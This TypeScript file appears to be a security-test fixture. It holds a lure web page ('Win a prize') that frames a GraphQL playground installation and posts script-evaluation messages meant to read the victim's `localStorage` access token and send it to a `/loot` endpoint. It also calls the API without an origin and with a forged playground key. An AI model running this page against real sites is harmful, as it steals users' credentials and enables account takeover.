/**
 * The page of an attacking site. On one click, it frames and opens pages of the installation at `?home=`, posts
 * messages to them that an earlier playground evaluated, and calls the API with an origin, without one, and with a
 * forged key.
 */
export const ATTACK = `<!doctype html><title>Prizes</title><button>Win a prize</button><pre></pre><p></p>
<script>
const home = new URLSearchParams(location.search).get('home')
const code = "globalThis.taken = true; (globalThis.opener || globalThis.parent).postMessage({ loot: localStorage.getItem('access_token') }, '*')"
const PATHS = ['/graphql/playground/iframe-sandbox/index.html?sc=' + location.origin, '/graphql/playground/iframe-sandbox/index.html?sandbox_type=plugin&sc=' + location.origin, '/graphql', '/', '/api/v1/docs']
const MESSAGES = [
  code, { code }, { type: 'init_execute', payload: [code, { environment: {}, headers: [], variables: '{}' }] }, { type: 'evaluate', script: code, code }, { vscodeScheduleAsyncWork: 1 },
  { type: 'plugin-sandbox::initialize', payload: { params: { sc: location.origin, id: '1' }, styleUrls: [], scriptUrls: ['data:text/javascript,' + encodeURIComponent(code)] } },
]
const wait = (milliseconds) => new Promise((resolve) => setTimeout(resolve, milliseconds))
const post = (target) => MESSAGES.forEach((message) => target && target.postMessage(message, '*'))
const BODY = JSON.stringify({ query: '{ installation { name } __typename }' })
const HEADERS = { 'content-type': 'application/json', 'apollo-require-preflight': 'true' }
const call = (headers) => fetch(home + '/graphql', { method: 'POST', headers, body: BODY }).then((answer) => answer.text(), () => 'unreadable')
const withoutOrigin = (headers) => new Promise((resolve) => {
  const frame = document.createElement('iframe')
  frame.sandbox = 'allow-scripts'
  frame.srcdoc = '<script>(' + ((home, headers, body) => {
    fetch(home + '/graphql', { method: 'POST', headers, body }).then((answer) => answer.text(), () => 'unreadable').then((told) => parent.postMessage({ told }, '*'))
  }) + ')(' + [home, headers, BODY].map((part) => JSON.stringify(part)).join() + ')<' + '/script>'
  addEventListener('message', ({ source, data }) => source === frame.contentWindow && resolve(data.told))
  document.body.append(frame)
})
document.querySelector('button').onclick = async () => {
  const targets = []
  for (const path of PATHS) {
    const frame = document.body.appendChild(document.createElement('iframe'))
    frame.src = home + path
    targets.push(() => frame.contentWindow)
    const opened = window.open(home + path)
    targets.push(() => opened)
  }
  addEventListener('message', ({ source, data }) => {
    if (data.loot !== undefined) fetch('/loot?' + encodeURIComponent(data.loot))
    else if (data.told === undefined) post(source)
  })
  for (let round = 0; round < 8; round++) {
    await wait(500)
    targets.forEach((target) => post(target()))
  }
  const told = {
    called: await call(HEADERS),
    calledWithoutOrigin: await withoutOrigin(HEADERS),
    calledWithAKey: await withoutOrigin({ ...HEADERS, 'x-playground-key': 'a'.repeat(43) }),
    page: await fetch(home + '/graphql', { headers: { accept: 'text/html' } }).then((answer) => answer.text(), () => 'unreadable'),
  }
  document.querySelector('pre').textContent = JSON.stringify(told)
  document.querySelector('p').textContent = 'All tried'
}
</script>`
